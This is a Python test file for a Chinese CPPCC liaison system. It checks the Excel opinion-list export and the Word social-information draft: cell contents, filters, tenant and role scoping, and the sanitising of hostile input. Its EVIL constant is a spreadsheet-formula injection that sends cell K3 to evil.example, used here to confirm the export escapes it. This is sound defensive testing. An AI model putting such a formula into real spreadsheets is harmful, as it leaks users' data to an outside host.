"""Opinion documents through the file routes, read back cell by cell: the filtered list
(.xlsx) and the 社情民意信息 draft (.docx) of a lead and the opinions merged into it."""

import io
import uuid
from datetime import date, datetime

import pytest
from docx import Document
from sqlalchemy import select, update

from liaison.documents.opinions import people_text
from liaison.documents.social_info import Item, SocialInfo, social_info_docx
from liaison.models import Committee, Member, Opinion, OpinionPerson, RoleAssignment
from liaison.models.account import Role
from liaison.opinions import queries
from liaison.tenancy import clock
from liaison.tenancy.scope import TenantScope, apply_scope
from tests.builders import BEIJING, auth
from tests.workbooks import read_workbook

EVIL = '=HYPERLINK("http://evil.example/"&K3,"详情")'
LIST = "/files/opinions.xlsx"
HEADERS = ["序号", "标题", "类别", "提出日期", "委员", "界别", "反映人", "状态", "承办",
           "办理结果", "答复日期", "反馈日期", "是否满意"]
JUNE = datetime(2025, 6, 1, 10, tzinfo=BEIJING)


async def add(owner, tenant, title, category, raised_on, *, member=None, state="registered",
              people=(), unnamed=None, **values) -> Opinion:
    await apply_scope(owner, TenantScope.only(tenant.id))
    cats = {c.name: c.id for c in await queries.categories(owner, tenant.id, seed=True)}
    opinion = Opinion(tenant_id=tenant.id, id=uuid.uuid4(), title=title,
                      content=values.pop("content", f"{title}的具体情况"),
                      category_id=cats[category], raised_on=raised_on, urgency="normal",
                      state=state, member_id=member.id if member else None,
                      sector_id=member.sector_id if member else None, **values)
    owner.add(opinion)
    await owner.flush()
    owner.add_all([OpinionPerson(tenant_id=tenant.id, opinion_id=opinion.id,
                                 constituent_id=p.constituent_id) for p in people])
    if unnamed:
        owner.add(OpinionPerson(tenant_id=tenant.id, opinion_id=opinion.id,
                                unnamed_count=unnamed))
    await owner.commit()
    return opinion


@pytest.fixture
async def opinions(owner, roster):
    """County A: five opinions (村道积水 merged into 修缮村道); county B: one."""
    w, m, p = roster.world, roster.members, roster.pairings
    a = w.county_a
    await apply_scope(owner, TenantScope.only(a.id))
    committee = await owner.scalar(select(Committee.id).where(Committee.tenant_id == a.id))
    await owner.execute(update(Member).where(Member.tenant_id == a.id, Member.id == m["张伟"].id)
                        .values(work_unit="八步区某中学", post="校长"))
    handled = dict(committee_id=committee, due_on=date(2025, 4, 30))
    lead = await add(owner, a, "修缮村道", "社会民生", date(2025, 3, 1), member=m["张伟"],
                     state="handling", people=[p["陈群众"]], unnamed=3,
                     content="村里主干道坑洼多年。\n\n雨天无法通行。", **handled)
    made = {"lead": lead, "evil": await add(owner, a, EVIL, "经济发展", date(2025, 3, 5),
                                            member=m["李娜"], unnamed=5)}
    made["lamp"] = await add(
        owner, a, "路灯不亮", "社会民生", date(2025, 3, 10), member=m["张伟"], state="fed_back",
        people=[p["刘群众"]], committee_id=committee, due_on=date(2025, 4, 15),
        outcome_kind="proposal", outcome_on=date(2025, 4, 1), proposal_year=2025,
        proposal_number="2025-001", outcome_title="关于修缮路灯的提案", reply_from="县交通局",
        replied_on=date(2025, 5, 10), reply_text="已修复", feedback_on=date(2025, 5, 20),
        satisfied=True)
    made["merged"] = await add(owner, a, "村道积水", "社会民生", date(2025, 3, 12),
                               member=m["王芳"], state="handling", unnamed=2,
                               content="积水严重", merged_into_id=lead.id, **handled)
    made["noise"] = await add(owner, a, "网吧噪音", "社会治理", date(2025, 2, 1),
                              state="disposed", unnamed=1, outcome_kind="rejected",
                              outcome_on=date(2025, 2, 10), rejection_reason="不属于政协职责")
    made["b"] = await add(owner, w.county_b, "县B的意见", "社会民生", date(2025, 3, 3),
                          member=m["赵强"], state="handling", people=[p["周群众"]])
    made["committee"] = committee
    return made


async def listed(client, headers, query: str = "") -> list[tuple]:
    with clock.pinned(JUNE):
        response = await client.get(f"{LIST}{query}", headers=headers)
    assert response.status_code == 200, response.text
    sheet = read_workbook(response.content)["意见建议"]
    return [r for r in sheet.iter_rows(min_row=4, values_only=True)]


def titles(rows) -> list[str]:
    return [r[1] for r in rows]


async def test_the_list_cell_by_cell(client, roster, opinions):
    w = roster.world
    with clock.pinned(JUNE):
        response = await client.get(LIST, headers=auth(w, w.county_a))
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert "filename*=UTF-8''" in response.headers["content-disposition"]
    sheet = read_workbook(response.content)["意见建议"]
    assert sheet["A1"].value == f"{w.county_a.short_name}意见建议清单（共 5 件）"
    assert sheet["A2"].value == "筛选条件：全部\u3000\u3000导出日期：2025-06-01"
    assert [c.value for c in sheet[3]] == HEADERS
    day = lambda m, d: datetime(2025, m, d)  # noqa: E731 (dates read back as datetimes)
    assert list(sheet.iter_rows(min_row=4, values_only=True)) == [
        (1, "网吧噪音", "社会治理", day(2, 1), None, None, "群众1人", "已处理", "委员联络办",
         "不予采纳：不属于政协职责", None, None, None),
        (2, "修缮村道", "社会民生", day(3, 1), "张伟", "中共", "陈群众、群众3人", "办理中",
         "综合委员会", None, None, None, None),
        (3, "'" + EVIL, "经济发展", day(3, 5), "李娜", "工会", "群众5人", "已登记", "未交办",
         None, None, None, None),
        (4, "路灯不亮", "社会民生", day(3, 10), "张伟", "中共", "刘群众", "已反馈", "综合委员会",
         "转化为提案：提案号 2025-001；关于修缮路灯的提案", day(5, 10), day(5, 20), "满意"),
        (5, "村道积水", "社会民生", day(3, 12), "王芳", "中共", "群众2人", "办理中",
         "综合委员会", "已合并办理", None, None, None)]
    assert (sheet["B6"].data_type, sheet["D4"].number_format) == ("s", "yyyy-mm-dd")
    assert (sheet.freeze_panes, sheet.print_title_rows, sheet.auto_filter.ref) == (
        "A4", "$3:$3", "A3:M8")
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth,
            sheet.page_setup.fitToHeight, sheet.sheet_properties.pageSetUpPr.fitToPage) == (
        "landscape", 1, 0, True)
    assert (sheet.column_dimensions["B"].width, sheet["A3"].font.b) == (30, True)
    text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)
    assert "县B的意见" not in text and "139" not in text and "138" not in text


async def test_filters_give_exactly_the_expected_rows(client, roster, opinions):
    w = roster.world
    office = auth(w, w.county_a)
    committee = opinions["committee"]
    assert titles(await listed(client, office, f"?state=handling&committee={committee}")) == [
        "修缮村道", "村道积水"]
    assert titles(await listed(client, office, "?state=办理中&committee=office")) == []
    assert titles(await listed(client, office, "?committee=office")) == ["网吧噪音",
                                                                         "'" + EVIL]
    assert titles(await listed(client, office, f"?member={roster.members['张伟'].id}")) == [
        "修缮村道", "路灯不亮"]
    assert titles(await listed(client, office, "?from=2025-03-05&to=2025-03-10")) == [
        "'" + EVIL, "路灯不亮"]
    assert titles(await listed(client, office, "?overdue=1")) == ["修缮村道", "村道积水"]
    with clock.pinned(datetime(2025, 4, 30, 10, tzinfo=BEIJING)):   # due today: not yet
        response = await client.get(f"{LIST}?overdue=1", headers=office)
    assert read_workbook(response.content)["意见建议"].max_row == 3
    note = read_workbook((await client.get(f"{LIST}?state=handling&committee={committee}",
                                           headers=office)).content)["意见建议"]["A2"].value
    assert note.startswith("筛选条件：状态：办理中；承办：综合委员会\u3000\u3000导出日期：")


@pytest.mark.parametrize("query, message", [
    ("?state=gone", "状态须为以下之一：registered、handling、disposed、replied、fed_back、closed"),
    ("?category=nonsense", "类别不是有效的 id：nonsense"),
    ("?committee=12", "专门委员会不是有效的 id：12"),
    ("?from=2025-13-01", "开始日期须为日期，如 2025-03-01"),
    ("?overdue=maybe", "overdue 须为 1 或 0"),
    ("?from=2025-04-01&to=2025-03-01", "提出日期的结束日不能早于开始日"),
])
async def test_bad_filters_are_400_in_chinese(client, roster, query, message):
    w = roster.world
    response = await client.get(f"{LIST}{query}", headers=auth(w, w.county_a))
    assert (response.status_code, response.json()) == (400, {"code": "BAD_REQUEST",
                                                             "message": message})


async def test_tenants_and_scopes(client, owner, roster, opinions):
    w = roster.world
    a, b = w.county_a, w.county_b
    assert titles(await listed(client, auth(w, b))) == ["县B的意见"]
    response = await client.get(f"{LIST}?tenant={a.code}", headers=auth(w, b))
    assert (response.status_code, response.json()["code"]) == (404, "NOT_FOUND")
    assert (await client.get(LIST)).status_code == 401
    city = await listed(client, auth(w, w.city), f"?tenant={a.code}")  # a county below
    assert len(city) == 5 and city[1][6] == "陈群众、群众3人"
    assert [(r[1], r[6]) for r in await listed(client, auth(w, a, Role.member))] == [
        ("修缮村道", "陈群众、群众3人"), ("路灯不亮", "刘群众")]   # 张伟's own only
    await owner.execute(update(RoleAssignment).where(
        RoleAssignment.tenant_id == a.id,
        RoleAssignment.account_id == w.account(a, Role.committee).id)
        .values(committee_id=opinions["committee"]))
    await owner.commit()
    assert titles(await listed(client, auth(w, a, Role.committee))) == [
        "修缮村道", "路灯不亮", "村道积水"]
    convenor = await listed(client, auth(w, a, Role.convenor))   # the 中共 sector's
    assert titles(convenor) == ["修缮村道", "路灯不亮", "村道积水"]


def test_names_are_counted_where_they_may_not_be_shown():
    assert people_text(["陈群众", "刘群众"], 3, show_names=True) == "陈群众、刘群众、群众3人"
    assert people_text(["陈群众", "刘群众"], 3, show_names=False) == "群众5人"
    assert people_text([], 0, show_names=True) == ""


DRAFT = [
    "{short}社情民意信息（草稿）", "{short}委员联络办\u3000\u30002025年6月1日", "{title}",
    "一、基本情况", "本信息由 2 件意见建议整理，反映群众 6 人。",
    "（一）修缮村道", "村里主干道坑洼多年。", "雨天无法通行。", "（二）村道积水", "积水严重",
    "二、存在问题", "（请填写）", "三、意见建议", "（请填写）", "反映人："]


async def draft(client, headers, opinion_id) -> Document:
    with clock.pinned(JUNE):
        response = await client.get(f"/files/opinions/{opinion_id}/social-info.docx",
                                    headers=headers)
    assert response.status_code == 200, response.text
    return Document(io.BytesIO(response.content))


async def test_the_social_info_draft_paragraph_by_paragraph(client, owner, roster, opinions):
    w = roster.world
    a = w.county_a
    short = a.short_name
    for asked in (opinions["lead"].id, opinions["merged"].id):   # a merged one: its lead's
        document = await draft(client, auth(w, a), asked)
        assert [p.text for p in document.paragraphs] == [
            t.format(short=short, title="修缮村道") for t in DRAFT]
        [table] = document.tables
        assert [[c.text for c in row.cells] for row in table.rows] == [
            ["姓名", "界别", "工作单位及职务"], ["张伟", "中共", "八步区某中学 校长"],
            ["王芳", "中共", ""]]
    text = " ".join(p.text for p in document.paragraphs)
    assert "陈群众" not in text and "138" not in text   # the people heard are not named
    await apply_scope(owner, TenantScope.only(a.id))
    await owner.execute(update(Opinion).where(Opinion.tenant_id == a.id,
                                              Opinion.id == opinions["lead"].id)
                        .values(state="disposed", outcome_kind="social_info",
                                outcome_on=date(2025, 4, 1), outcome_title="关于村道维修的建议",
                                sent_to="市政协"))
    await owner.commit()
    document = await draft(client, auth(w, a), opinions["lead"].id)
    assert document.paragraphs[2].text == "关于村道维修的建议"


async def test_the_draft_follows_the_callers_scope(client, roster, opinions):
    w = roster.world
    a, b = w.county_a, w.county_b
    mine = await draft(client, auth(w, a, Role.member), opinions["lead"].id)   # 张伟's lead
    assert [p.text for p in mine.paragraphs][4:8] == [
        "本信息由 1 件意见建议整理，反映群众 4 人。", "（一）修缮村道", "村里主干道坑洼多年。",
        "雨天无法通行。"]
    assert [[c.text for c in r.cells] for r in mine.tables[0].rows][1:] == [
        ["张伟", "中共", "八步区某中学 校长"]]
    for headers, opinion_id in ((auth(w, b), opinions["lead"].id),
                                (auth(w, a, Role.member), opinions["evil"].id),
                                (auth(w, a), opinions["b"].id), (auth(w, a), "not-an-id"),
                                (auth(w, a), uuid.uuid4())):
        response = await client.get(f"/files/opinions/{opinion_id}/social-info.docx",
                                    headers=headers)
        assert (response.status_code, response.json()["code"]) == (404, "NOT_FOUND")


def test_hostile_text_in_the_draft_is_cleaned():
    info = SocialInfo(issuer="某县政协", dated=date(2025, 6, 1), title="标题\x07",
                      items=(Item(EVIL, "第一段\x00\r\n第二段"),), people=0, reporters=())
    document = Document(io.BytesIO(social_info_docx(info)))
    assert [p.text for p in document.paragraphs][2:8] == [
        "标题", "一、基本情况", "本信息由 1 件意见建议整理。", f"（一）{EVIL}", "第一段", "第二段"]
    assert [[c.text for c in r.cells] for r in document.tables[0].rows] == [
        ["姓名", "界别", "工作单位及职务"], ["", "", ""]]
